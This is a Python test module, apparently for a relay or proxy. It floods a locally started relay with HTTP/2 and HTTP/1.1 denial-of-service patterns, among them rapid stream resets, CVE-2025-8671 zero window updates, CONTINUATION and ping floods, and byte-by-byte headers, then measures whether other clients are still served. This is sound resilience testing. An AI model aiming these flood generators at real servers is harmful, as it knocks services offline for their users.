"""Frames of HTTP/2 and requests of HTTP/1.1 that cost little to send: streams that are reset at once, heads that do not end,
frames whose replies nobody reads. Another address asks meanwhile, of this relay and of one that nobody attacks."""

import contextlib
import itertools
import multiprocessing
import os
import select
import socket
import ssl
import struct
import sys
import time

from addresses import ACCESS, OTHER, secured
from doors import DATA, END_HEADERS, HEADERS, PING, PREFACE, SETTINGS, WINDOW_UPDATE, frame, literal
from memory import MOST_MIB
from relay import PORTS, ask, ask_in_turn, connect, origin, small
from relay import secured as in_tls
from verdicts import answered, lives, most, ratio

SECONDS = 8
PROCESSES = 2
SOURCE = "127.0.1.1"
REQUESTS = 200
PRIORITY, RST_STREAM, CONTINUATION = 2, 3, 9
END_STREAM = 1
CANCEL = struct.pack(">I", 8)
# in one call: 500 frames or streams
EACH = 500


def head(method, to, path=None):
    fields = [(":method", method), (":authority", to)]
    if path:
        fields += [(":scheme", "http"), (":path", path)]
    return b"".join(literal(*field) for field in fields)


def streams(of, each=EACH, pause=0):
    """Batches of what `of` says of each new stream."""
    numbers = itertools.count(1, 2)
    yield PREFACE + frame(SETTINGS, 0, 0)
    while True:
        yield b"".join(of(next(numbers)) for _ in range(each))
        time.sleep(pause)


def on_one(begin, again):
    yield PREFACE + frame(SETTINGS, 0, 0) + begin
    while True:
        yield again * EACH


def reset(block, flags=END_STREAM, **pace):
    both = lambda of: frame(HEADERS, flags | END_HEADERS, of, block) + frame(RST_STREAM, 0, of, CANCEL)
    return lambda: streams(both, **pace)


def made_to_reset(block, **pace):
    """The relay has to reset each stream: a window that grows by nothing (RFC 9113 section 6.9, CVE-2025-8671)."""
    wrong = struct.pack(">I", 0)
    both = lambda of: frame(HEADERS, END_STREAM | END_HEADERS, of, block) + frame(WINDOW_UPDATE, 0, of, wrong)
    return lambda: streams(both, **pace)


def names():
    numbers = itertools.count()

    def one(of):
        block = head("CONNECT", f"n{next(numbers)}-{os.getpid()}.test:80")
        return frame(HEADERS, END_HEADERS, of, block) + frame(RST_STREAM, 0, of, CANCEL)

    return streams(one, each=10, pause=0.002)


def http2(at, quiet):
    get, post = head("GET", at, "/"), head("POST", quiet, "/")
    part = frame(CONTINUATION, 0, 1, literal("x", "x" * 8))
    return {
        "resets": reset(get),
        "resets_in_tens": reset(get, each=10, pause=0.002),
        "resets_of_connects": reset(head("CONNECT", quiet), 0, each=10, pause=0.002),
        "resets_of_names": names,
        "made_to_reset": made_to_reset(head("GET", quiet, "/"), each=10, pause=0.002),
        "continuations": lambda: on_one(frame(HEADERS, 0, 1, get), part),
        "empty_continuations": lambda: on_one(frame(HEADERS, 0, 1, get), frame(CONTINUATION, 0, 1)),
        "settings": lambda: on_one(b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))),
        "pings": lambda: on_one(b"", frame(PING, 0, 0, b"12345678")),
        "empty_data": lambda: on_one(frame(HEADERS, END_HEADERS, 1, post), frame(DATA, 0, 1)),
        "padding": lambda: on_one(frame(HEADERS, END_HEADERS, 1, post), frame(DATA, 8, 1, b"\xff" + bytes(255))),
        "windows": lambda: on_one(frame(HEADERS, END_HEADERS, 1, post), frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
        "pings_unread": lambda: on_one(b"", frame(PING, 0, 0, b"12345678")),
        "settings_unread": lambda: on_one(b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))),
        "made_to_reset_unread": made_to_reset(head("GET", quiet, "/")),
        "priorities": lambda: on_one(b"", frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1))),
    }


def http1(at, quiet):
    def pipelined():
        while True:
            yield f"GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\n\r\n".encode() * EACH

    def extensions():
        yield f"POST http://{quiet}/ HTTP/1.1\r\nHost: {quiet}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
        while True:
            yield (b"1;" + b"x" * 200 + b"\r\nx\r\n") * EACH

    def bytewise():
        # each byte of a head in a packet of its own
        for byte in f"GET http://{at}/{'x' * 4_000} HTTP/1.1\r\nHost: {at}\r\n\r\n".encode():
            yield bytes([byte])

    return {"pipelined": pipelined, "chunk_extensions": extensions, "heads_by_the_byte": bytewise}


def attack(to, pieces, protocol, reads, shown, stop):
    """Sends until it is stopped, on a new connection where one was ended."""
    # as on a machine of its own: what it computes must not be taken from the relay and its client
    os.nice(19)
    while not stop.is_set():
        with contextlib.suppress(OSError):
            stream = connect(to, SOURCE, 1, receives=None if reads else 4_096)
            stream = in_tls(stream, protocol) if protocol else stream
            shown[0] += 1
            with stream:
                send(stream, pieces(), reads, shown, stop)


def send(stream, pieces, reads, shown, stop):
    stream.setblocking(False)
    unsent, moved = memoryview(b""), time.monotonic()
    # who is not served for a second begins anew
    while not stop.is_set() and time.monotonic() - moved < 1:
        if not unsent:
            unsent = memoryview(next(pieces, b""))
        wanted = [stream] if reads else []
        readable, writable, _ = select.select(wanted, [stream] if unsent else [], [], 0.1)
        with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            if readable and not stream.recv(65_536):
                return
        with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            if writable:
                sent = stream.send(unsent)
                unsent, moved = unsent[sent:], time.monotonic()
                shown[1] += sent


def counted(answer):
    """An origin in a process of its own, and how many connections it has taken."""
    taken = multiprocessing.Value("q")

    def one(stream):
        with taken.get_lock():
            taken.value += 1
        answer(stream)

    return "{}:{}".format(*origin(one, apart=True)), taken


def says_nothing(stream):
    while stream.recv(65_536):
        pass


def dead_name_server():
    """A UDP port that takes questions and answers none."""
    taken = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    taken.bind(("127.0.0.1", next(PORTS)))
    return taken


def asked_beside(relay, second, target, arguments):
    """What another address sees of `relay`, and of a second one that nobody attacks, while processes attack. Each calls
    `target` with `arguments`, two counts, and an event that stops it. The sums of both counts, and figures."""
    to = origin(small)
    without = ask(relay.address, to, OTHER, REQUESTS // 2)
    lines = len(relay.log().splitlines())
    stop, counts = multiprocessing.Event(), [multiprocessing.Array("q", 2) for _ in range(PROCESSES)]
    each = [(*arguments, one, stop) for one in counts]
    processes = [multiprocessing.Process(target=target, args=all_of, daemon=True) for all_of in each]
    for process in processes:
        process.start()
    begun = time.monotonic()
    attacked, beside = ask_in_turn([relay.address, second.address], to, OTHER, REQUESTS)
    time.sleep(max(0, begun + SECONDS - time.monotonic()))
    seconds = time.monotonic() - begun
    stop.set()
    for process in processes:
        process.join(3)
        process.kill()
        process.join()
    return [sum(one[at] for one in counts) for at in range(2)], {
        "seconds": round(seconds, 1),
        "lines_a_second": round((len(relay.log().splitlines()) - lines) / seconds, 2),
        "resident_most_mib": relay.memory()[1] >> 20,
        "lives": relay.lives(),
        "without": without,
        "attacked": attacked,
        "second_relay": beside,
        "p99_to_without": ratio(attacked, without, "p99_ms"),
        "p99_to_second_relay": ratio(attacked, beside, "p99_ms"),
    }


def one(name, pieces, protocol, server, taken):
    # the places for names are tried, and not their rate
    dns = f'[dns]\nservers = ["127.0.0.1:{server.getsockname()[1]}"]\nrate = 1000000\n'
    with secured(ACCESS + dns) as relay, secured(ACCESS + dns) as second:
        before, reads = [one.value for one in taken], not name.endswith("unread")
        (connections, sent), figures = asked_beside(relay, second, attack, (relay.address, pieces, protocol, reads))
        figures |= {
            "connections": connections,
            "sent_mb": round(sent / 1e6, 1),
            "origin_connections": [now.value - then for now, then in zip(taken, before)],
        }
        print(name, figures, file=sys.stderr, flush=True)
        return figures


def run():
    (at, served), (quiet, held) = counted(small), counted(says_nothing)
    server = dead_name_server()
    kinds = [(name, pieces, "h2") for name, pieces in http2(at, quiet).items()]
    kinds += [(name, pieces, None) for name, pieces in http1(at, quiet).items()]
    return {name: one(name, pieces, protocol, server, (served, held)) for name, pieces, protocol in kinds}


def verdicts(shown):
    yield lives(shown)
    yield answered("another address", {kind: of["attacked"] for kind, of in shown.items()})
    yield most("lines of log", {kind: of["lines_a_second"] for kind, of in shown.items()}, 1, "a second")
    yield most("memory of the relay", {kind: of["resident_most_mib"] for kind, of in shown.items()}, MOST_MIB, "MiB")
